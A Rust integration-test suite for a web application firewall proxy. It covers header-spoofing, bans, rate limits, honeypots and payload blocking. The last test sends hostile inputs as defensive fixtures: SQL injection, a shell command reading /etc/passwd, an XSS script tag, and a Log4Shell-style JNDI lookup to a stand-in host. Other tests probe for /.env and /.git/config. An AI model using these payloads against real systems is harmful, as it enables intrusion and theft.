use std::time::Duration;

use bytes::Bytes;

use crate::support::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn spoofed_forwarding_headers_change_nothing_from_untrusted_peers() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts::default());
    let r = send_from(
        "127.0.0.2",
        p.addr,
        "GET",
        "/.env",
        &[("x-forwarded-for", "203.0.113.9"), ("x-real-ip", "203.0.113.9"), ("forwarded", "for=203.0.113.9")],
        Bytes::new(),
    )
    .await;
    assert_eq!(r.status, 403);
    eventually(Duration::from_secs(2), async || !banned_ips(&p).is_empty()).await.unwrap();
    // The real peer is banned, not the address the client claimed.
    assert_eq!(banned_ips(&p), ["127.0.0.2"]);
    // Claiming to be someone else does not get a banned client out.
    let r = send_from("127.0.0.2", p.addr, "GET", "/", &[("x-forwarded-for", "127.0.0.1")], Bytes::new()).await;
    assert_eq!(r.status, 403);
    // The upstream sees the real peer in X-Forwarded-For, not the spoofed chain.
    let r = send_from("127.0.0.3", p.addr, "GET", "/echo", &[("x-forwarded-for", "6.6.6.6")], Bytes::new()).await;
    assert_eq!(r.json()["headers"]["x-forwarded-for"][0], "127.0.0.3");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trusted_proxies_pass_the_rightmost_untrusted_hop() {
    let up = Upstream::start().await;
    let config = "[server]\ntrusted_proxies = [\"127.0.0.10/32\"]\n".to_string();
    let p = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
    let via = |xff: &'static str| [("x-forwarded-for", xff)];
    let r = send_from("127.0.0.10", p.addr, "GET", "/.git/config", &via("9.9.9.9, 198.51.100.7"), Bytes::new()).await;
    assert_eq!(r.status, 403);
    eventually(Duration::from_secs(2), async || banned_ips(&p) == ["198.51.100.7"])
        .await
        .expect("ban on the client, not the proxy");
    // Another client behind the same proxy is fine; the banned one is blocked through it.
    let r = send_from("127.0.0.10", p.addr, "GET", "/", &via("198.51.100.8"), Bytes::new()).await;
    assert_eq!(r.status, 200);
    let r = send_from("127.0.0.10", p.addr, "GET", "/", &via("198.51.100.7"), Bytes::new()).await;
    assert_eq!(r.status, 403);
    // An untrusted peer sending the same header is judged on its own address.
    let r = send_from("127.0.0.11", p.addr, "GET", "/", &via("198.51.100.7"), Bytes::new()).await;
    assert_eq!(r.status, 200);
}

/// Issue 10, reproduced: behind a trusted proxy that appends `X-Forwarded-For`, a client added
/// `Forwarded: for=<exempt address>` and the engine believed it. Only the configured header
/// counts now, and the claims an untrusted client sends never reach the upstream.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_configured_client_header_is_believed() {
    let up = Upstream::start().await;
    let config = "[server]\ntrusted_proxies = [\"127.0.0.10/32\"]\n[exemptions]\nips = [\"203.0.113.50\"]\n";
    let p = Proxy::start(&up.url(), ProxyOpts { config: Some(config.into()), ..Default::default() });
    let spoof = [("x-forwarded-for", "198.51.100.7"), ("forwarded", "for=203.0.113.50"), ("x-real-ip", "203.0.113.50")];
    let r = send_from("127.0.0.10", p.addr, "GET", "/.env", &spoof, Bytes::new()).await;
    assert_eq!(r.status, 403, "a Forwarded header the client added must not make it exempt");
    eventually(Duration::from_secs(2), async || banned_ips(&p) == ["198.51.100.7"]).await.expect("client banned");
    let r = send_from("127.0.0.10", p.addr, "GET", "/", &spoof, Bytes::new()).await;
    assert_eq!(r.status, 403);

    // With `client_ip_header = "X-Real-IP"` only X-Real-IP counts, and X-Forwarded-For is ignored.
    let config = "[server]\ntrusted_proxies = [\"127.0.0.10/32\"]\nclient_ip_header = \"X-Real-IP\"\n";
    let q = Proxy::start(&up.url(), ProxyOpts { config: Some(config.into()), ..Default::default() });
    let h = [("x-real-ip", "198.51.100.9"), ("x-forwarded-for", "203.0.113.77")];
    assert_eq!(send_from("127.0.0.10", q.addr, "GET", "/.env", &h, Bytes::new()).await.status, 403);
    eventually(Duration::from_secs(2), async || banned_ips(&q) == ["198.51.100.9"]).await.expect("X-Real-IP client");

    // An untrusted client's claims are removed before the upstream sees the request.
    let claims = [
        ("forwarded", "for=203.0.113.50"),
        ("x-real-ip", "203.0.113.50"),
        ("cf-connecting-ip", "203.0.113.50"),
        ("true-client-ip", "203.0.113.50"),
        ("x-forwarded-host", "evil.example"),
    ];
    let r = send_from("127.0.0.12", p.addr, "GET", "/echo", &claims, Bytes::new()).await;
    let headers = &r.json()["headers"];
    assert_eq!(headers["x-real-ip"][0], "127.0.0.12", "{headers}");
    for name in ["forwarded", "cf-connecting-ip", "true-client-ip", "x-forwarded-host"] {
        assert!(headers.get(name).is_none(), "{name} passed through: {headers}");
    }
    // A trusted proxy's headers pass unchanged.
    let r = send_from("127.0.0.10", p.addr, "GET", "/echo", &[("x-real-ip", "192.0.2.4")], Bytes::new()).await;
    assert_eq!(r.json()["headers"]["x-real-ip"][0], "192.0.2.4");
    // A trusted proxy's X-Forwarded-For chain is kept, its header lines joined, and the peer
    // appended, in one header.
    let chain = [("x-forwarded-for", "198.51.100.7"), ("x-forwarded-for", "203.0.113.1, 10.0.0.2")];
    let r = send_from("127.0.0.10", p.addr, "GET", "/echo", &chain, Bytes::new()).await;
    let xff = &r.json()["headers"]["x-forwarded-for"];
    assert_eq!(xff, &serde_json::json!(["198.51.100.7, 203.0.113.1, 10.0.0.2, 127.0.0.10"]), "{xff}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exemptions_bypass_every_check_and_are_never_banned() {
    let up = Upstream::start().await;
    let config = "[exemptions]\nips = [\"127.0.5.0/24\"]\n[rate_limit]\nmax = 3\nflood = 5\n".to_string();
    let p = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
    for _ in 0..10 {
        assert_ne!(get("127.0.5.9", p.addr, "/.env").await.status, 403);
    }
    // A CLI exemption reaches the running server within a second.
    let (code, _, err) = p.cli(&["exempt", "add", "127.0.6.1", "--reason", "office"]);
    assert_eq!(code, 0, "{err}");
    let took = eventually(Duration::from_secs(1), async || get("127.0.6.1", p.addr, "/.env").await.status != 403).await;
    assert!(took.is_some(), "exemption not applied within 1 s");
    assert!(banned_ips(&p).is_empty());
    let (_, out, _) = p.cli(&["exempt", "list", "--json"]);
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(list[0]["ip"], "127.0.6.1");
    assert_eq!(list[0]["reason"], "office");
    // Non-exempt neighbours are still inspected.
    assert_eq!(get("127.0.6.2", p.addr, "/.env").await.status, 403);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ipv6_clients_and_cidr_exemptions() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts { listen: Some("[::1]:0"), ..Default::default() });
    assert_eq!(get("::1", p.addr, "/.env").await.status, 403);
    eventually(Duration::from_secs(2), async || banned_ips(&p) == ["::1"]).await.unwrap();
    let (code, _, err) = p.cli(&["exempt", "add", "::/64"]);
    assert_eq!(code, 0, "{err}");
    // The exemption lifts the ban and covers the address.
    eventually(Duration::from_secs(1), async || get("::1", p.addr, "/.env").await.status != 403)
        .await
        .expect("exempted");
    assert!(banned_ips(&p).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exempt_paths_are_never_blocked_on_segment_boundaries() {
    let up = Upstream::start().await;
    let config = "[exemptions]\npaths = [\"/Health\"]\n".to_string();
    let p = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
    // Built-in admin/login prefixes and configured ones, case-insensitive.
    for path in ["/admin/x.php", "/ADMIN/.env", "/health/check.php", "/accounts/login/wp-login.php"] {
        assert_ne!(get("127.0.1.1", p.addr, path).await.status, 403, "{path}");
    }
    // Many 404s on exempt paths do not count as a 404 flood.
    for k in 0..10 {
        assert_eq!(get("127.0.1.1", p.addr, &format!("/admin/missing{k}.jsp")).await.status, 404);
    }
    assert_eq!(get("127.0.1.1", p.addr, "/").await.status, 200);
    // /healthz is not under /health; /admin/../ does not borrow the exemption.
    assert_eq!(get("127.0.1.2", p.addr, "/healthz/x.php").await.status, 403);
    assert_eq!(get("127.0.1.3", p.addr, "/admin/../.env").await.status, 403);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn blacklist_blocks_at_once_and_ttl_expires() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts::default());
    assert_eq!(get("127.0.2.1", p.addr, "/").await.status, 200);
    let (code, _, err) = p.cli(&["blacklist", "add", "127.0.2.1", "--reason", "abuse report", "--ttl", "2s"]);
    assert_eq!(code, 0, "{err}");
    let took = eventually(Duration::from_secs(1), async || get("127.0.2.1", p.addr, "/").await.status == 403).await;
    println!("CLI ban applied after {took:?}");
    assert!(took.is_some(), "CLI ban not applied within 1 s");
    let hits = up.hits();
    let r = get("127.0.2.1", p.addr, "/anything").await;
    assert_eq!(r.status, 403);
    // The client learns it is banned and for how long, not the operator's note.
    let j = r.json();
    assert_eq!((j["banned"].as_bool(), j["reason"].as_str()), (Some(true), Some("Access blocked")), "{j}");
    assert!(!r.text().contains("abuse report"));
    assert!(r.headers["retry-after"].to_str().unwrap().parse::<u64>().unwrap() <= 2);
    assert_eq!(up.hits(), hits, "a blocked request must not reach the upstream");
    let b = &blacklist(&p)[0];
    assert_eq!(b["reason"], "abuse report");
    assert!(b["expires_at"].is_string());
    // Bans expire.
    eventually(Duration::from_secs(4), async || get("127.0.2.1", p.addr, "/").await.status == 200)
        .await
        .expect("ban expired");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_limit_429_then_flood_ban() {
    let up = Upstream::start().await;
    let p = Proxy::start(
        &up.url(),
        ProxyOpts {
            env: vec![("AIWAF_RATE_MAX", "5".into()), ("AIWAF_RATE_FLOOD", "10".into())],
            ..Default::default()
        },
    );
    let mut statuses = Vec::new();
    for _ in 0..12 {
        let r = get("127.0.3.1", p.addr, "/").await;
        if r.status == 429 {
            let retry: u64 = r.headers["retry-after"].to_str().unwrap().parse().unwrap();
            assert!((1..=10).contains(&retry));
        }
        statuses.push(r.status);
    }
    assert_eq!(statuses, [200, 200, 200, 200, 200, 429, 429, 429, 429, 429, 403, 403]);
    // Other clients are unaffected: the limit is per client.
    for _ in 0..5 {
        assert_eq!(get("127.0.3.2", p.addr, "/").await.status, 200);
    }
    eventually(Duration::from_secs(2), async || banned_ips(&p) == ["127.0.3.1"]).await.unwrap();
    let ev = events(&p, &["--detector", "flood"]);
    assert_eq!(ev[0]["evidence"]["count"], 11);
    assert_eq!(events(&p, &["--detector", "rate_limit"]).len(), 5);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keywords_static_learned_and_upstream_confirmed_paths() {
    let up = Upstream::start().await;
    let config = "[keywords]\nallowed = [\"shell\"]\n".to_string();
    let p = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
    // The seed could never match these (punctuation, encodings).
    for (n, path) in ["/.env", "/wp-login.php", "/%2e%65nv", "/%252e%2567it/config", "/a/../backup.bak", "/xmlrpc"]
        .iter()
        .enumerate()
    {
        let r = get(&format!("127.0.4.{}", n + 1), p.addr, path).await;
        assert_eq!(r.status, 403, "{path}");
    }
    // Allowed words and ordinary pages pass.
    for path in ["/cgi-bin/shell", "/blog/hello-world/", "/en/profile/", "/shells/"] {
        assert_eq!(get("127.0.4.20", p.addr, path).await.status, 200, "{path}");
    }
    // A learned keyword blocks new paths but never one the upstream has served.
    let store = aiwaf_store::Store::open(&p.dir).await.unwrap();
    store.add_keywords(&[("profile".into(), 3)], aiwaf_tower::now_ms()).await.unwrap();
    // Each probe uses a fresh path: one the upstream served would become known-good.
    let mut k = 0;
    let took = eventually(Duration::from_secs(1), async || {
        k += 1;
        get("127.0.4.21", p.addr, &format!("/team{k}/profile")).await.status == 403
    })
    .await;
    assert!(took.is_some(), "learned keyword not applied within 1 s");
    assert_eq!(get("127.0.4.22", p.addr, "/en/profile/").await.status, 200);
    let (_, out, _) = p.cli(&["keywords", "list", "--json"]);
    assert!(out.contains("\"profile\""));
    let (code, _, _) = p.cli(&["keywords", "remove", "profile"]);
    assert_eq!(code, 0);
    // A fresh client per probe: a probe that is still blocked bans its client.
    let mut n = 100;
    let took = eventually(Duration::from_secs(1), async || {
        n += 1;
        get(&format!("127.0.4.{n}"), p.addr, "/staff/profile").await.status == 200
    })
    .await;
    assert!(took.is_some(), "keyword removal not applied within 1 s");
    let ev = events(&p, &["--ip", "127.0.4.3"]);
    assert_eq!(ev[0]["detector"], "keyword");
    assert_eq!(ev[0]["evidence"]["keyword"], ".env");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn file_extension_probing_bans_after_three_404s() {
    let up = Upstream::start().await;
    // Without static keywords, `.php` alone would not block: the probe detector does.
    let config = "[keywords]\nstatic = []\n".to_string();
    let p = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
    for path in ["/a.php", "/b.asp", "/c.jsp"] {
        assert_eq!(get("127.0.7.1", p.addr, path).await.status, 404);
    }
    assert_eq!(get("127.0.7.1", p.addr, "/").await.status, 403);
    eventually(Duration::from_secs(2), async || !events(&p, &["--detector", "extension_probe"]).is_empty())
        .await
        .unwrap();
    let ev = &events(&p, &["--detector", "extension_probe"])[0];
    assert_eq!(ev["evidence"]["paths"].as_array().unwrap().len(), 3);
    // Two probes and a normal page: fine.
    for path in ["/x.php", "/y.php", "/"] {
        assert_ne!(get("127.0.7.2", p.addr, path).await.status, 403);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn timing_honeypot_for_form_posts() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts::default());
    let form = [("content-type", "application/x-www-form-urlencoded"), ("accept", "text/html")];
    let body = || Bytes::from_static(b"name=a&msg=b");
    // Someone has loaded the form page, so the upstream serves it as HTML.
    assert_eq!(get("127.0.8.9", p.addr, "/contact/").await.status, 200);
    // A bot posting straight away, again and again: four signals pass, the fifth is a ban.
    for n in 0..4 {
        let r = send_from("127.0.8.1", p.addr, "POST", "/contact/", &form, body()).await;
        assert_eq!(r.status, 200, "post {n}");
    }
    let r = send_from("127.0.8.1", p.addr, "POST", "/contact/", &form, body()).await;
    assert_eq!(r.status, 403);
    // GET then an instant POST (a password manager): a signal, not a ban.
    assert_eq!(get("127.0.8.2", p.addr, "/contact/").await.status, 200);
    let r = send_from("127.0.8.2", p.addr, "POST", "/contact/", &form, body()).await;
    assert_eq!(r.status, 200);
    // A human reads the form first.
    assert_eq!(get("127.0.8.3", p.addr, "/contact/").await.status, 200);
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let r = send_from("127.0.8.3", p.addr, "POST", "/contact/", &form, body()).await;
    assert_eq!(r.status, 200);
    // JSON API posts never trip the honeypot.
    let r = send_from(
        "127.0.8.4",
        p.addr,
        "POST",
        "/api/items",
        &[("content-type", "application/json")],
        Bytes::from_static(b"{}"),
    )
    .await;
    assert_eq!(r.status, 200);
    // Five flags and a ban for the bot, one flag for the fast human.
    let n = eventually(Duration::from_secs(2), async || events(&p, &["--detector", "honeypot"]).len() == 6).await;
    assert!(n.is_some(), "{:#?}", events(&p, &["--detector", "honeypot"]));
    let evs = events(&p, &["--detector", "honeypot", "--ip", "127.0.8.2"]);
    assert_eq!(evs[0]["action"], "flag");
    assert!(evs[0]["reason"].as_str().is_some_and(|r| r.contains("Form submitted too quickly")), "{evs:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uuid_tampering_scores_404s() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts::default());
    // The real item, many times: never counts.
    for _ in 0..10 {
        assert_eq!(get("127.0.9.1", p.addr, &format!("/items/{KNOWN_UUID}")).await.status, 200);
    }
    // Enumeration: four misses pass, the fifth bans.
    for k in 0..5 {
        let r = get("127.0.9.2", p.addr, &format!("/items/550e8400-e29b-41d4-a716-44665544100{k}")).await;
        assert_eq!(r.status, 404);
    }
    assert_eq!(get("127.0.9.2", p.addr, "/").await.status, 403);
    // One mistyped link is not a ban (a pasted `)` is not even malformed) ...
    assert_eq!(get("127.0.9.3", p.addr, &format!("/items/{KNOWN_UUID}zz")).await.status, 404);
    assert_eq!(get("127.0.9.3", p.addr, &format!("/items/{KNOWN_UUID})")).await.status, 404);
    assert_eq!(get("127.0.9.3", p.addr, "/").await.status, 200);
    // ... three malformed UUIDs within the window are tampering.
    for junk in ["zz", "-x1", "_00"] {
        assert_eq!(get("127.0.9.4", p.addr, &format!("/items/{KNOWN_UUID}{junk}")).await.status, 404);
    }
    assert_eq!(get("127.0.9.4", p.addr, "/").await.status, 403);
    // An injection riding on a UUID is a payload, blocked at once.
    assert_eq!(get("127.0.9.5", p.addr, &format!("/items/{KNOWN_UUID}'%20or%20'1'='1")).await.status, 403);
    eventually(Duration::from_secs(2), async || events(&p, &["--detector", "uuid_tamper"]).len() == 2).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn not_found_flood_bans_on_the_sixth_404() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts::default());
    for k in 0..5 {
        assert_eq!(get("127.0.10.1", p.addr, &format!("/nf/{k}")).await.status, 404);
    }
    // Five 404s are tolerated (a few broken links).
    assert_eq!(get("127.0.10.1", p.addr, "/").await.status, 200);
    assert_eq!(get("127.0.10.1", p.addr, "/nf/6").await.status, 404);
    assert_eq!(get("127.0.10.1", p.addr, "/").await.status, 403);
    eventually(Duration::from_secs(2), async || banned_ips(&p) == ["127.0.10.1"]).await.unwrap();
    let ev = &events(&p, &["--detector", "not_found_flood"])[0];
    assert_eq!(ev["evidence"]["count"], 6);
}

/// A url-encoded form POST from `src`.
async fn post_form(src: &str, to: std::net::SocketAddr, path: &str, body: &'static str) -> Resp {
    let form = [("content-type", "application/x-www-form-urlencoded")];
    send_from(src, to, "POST", path, &form, Bytes::from(body)).await
}

/// Issue 12, end to end: a payload in the query, the body (JSON, form) or a header is blocked
/// with the why in the event; clean look-alikes pass; detect mode records and the report turns
/// what fired into exclusions.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn payloads_in_query_body_and_headers() {
    let up = Upstream::start().await;
    let p = Proxy::start(&up.url(), ProxyOpts::default());
    let json = [("content-type", "application/json")];
    let r = get("127.0.80.1", p.addr, "/items?id=1%27%20OR%20%271%27%3D%271").await;
    assert_eq!(r.status, 403);
    let id = r.headers["x-aiwaf-request-id"].to_str().unwrap().to_string();
    let r = send_from("127.0.80.2", p.addr, "POST", "/api/run", &json, Bytes::from(r#"{"cmd": "x; cat /etc/passwd"}"#))
        .await;
    assert_eq!(r.status, 403);
    let r = post_form("127.0.80.3", p.addr, "/comment", "text=%3Cscript%3Ealert(1)%3C/script%3E").await;
    assert_eq!(r.status, 403);
    let r = send_from("127.0.80.4", p.addr, "GET", "/", &[("user-agent", "${jndi:ldap://x.example/a}")], Bytes::new())
        .await;
    assert_eq!(r.status, 403);
    // Look-alikes pass, and the body reaches the upstream whole.
    let body = r#"{"name": "O'Brien", "bio": "<b>Hi</b>, I teach SQL: select a product from the list"}"#;
    let r = send_from("127.0.80.5", p.addr, "POST", "/echo", &json, Bytes::from(body)).await;
    assert_eq!((r.status, r.json()["body_len"].as_u64()), (200, Some(body.len() as u64)));
    assert_eq!(
        get("127.0.80.5", p.addr, "/search?q=select+a+product&next=https%3A%2F%2Fexample.com%2Fa").await.status,
        200
    );
    // The why of a block, exactly.
    eventually(Duration::from_secs(2), async || !events(&p, &["--request-id", &id]).is_empty()).await.unwrap();
    let ev = &events(&p, &["--request-id", &id])[0];
    assert_eq!(ev["detector"], "payload");
    assert!(ev["evidence"]["findings"].to_string().contains("query.id"), "{ev}");

    // Detect mode: nothing blocked, everything recorded; the report suggests exclusions.
    let q = Proxy::start(&up.url(), ProxyOpts { mode: Some("detect"), ..Default::default() });
    for k in 0..3 {
        let r = post_form(
            &format!("127.0.81.{}", k + 1),
            q.addr,
            "/admin/posts/7/change/",
            "title=Hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        )
        .await;
        assert_eq!(r.status, 200);
    }
    eventually(Duration::from_secs(2), async || events(&q, &["--detector", "payload"]).len() == 3).await.unwrap();
    let (code, out, err) = q.cli(&["payload-report", "--json"]);
    assert_eq!(code, 0, "{err}");
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["route"], "/admin/posts/");
    assert_eq!(rows[0]["target"], "body.content");
    assert_eq!(rows[0]["clients"], 3);
    // An exclusion from the report lets the same edit through in block mode.
    let config = format!("{}\n", rows[0]["exclusion"].as_str().unwrap());
    let x = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
    let r = post_form(
        "127.0.82.1",
        x.addr,
        "/admin/posts/7/change/",
        "title=Hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    )
    .await;
    assert_eq!(r.status, 200);
    let r =
        post_form("127.0.82.2", x.addr, "/admin/posts/7/change/", "title=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
    assert_eq!(r.status, 403, "only the excluded target is let through");
}
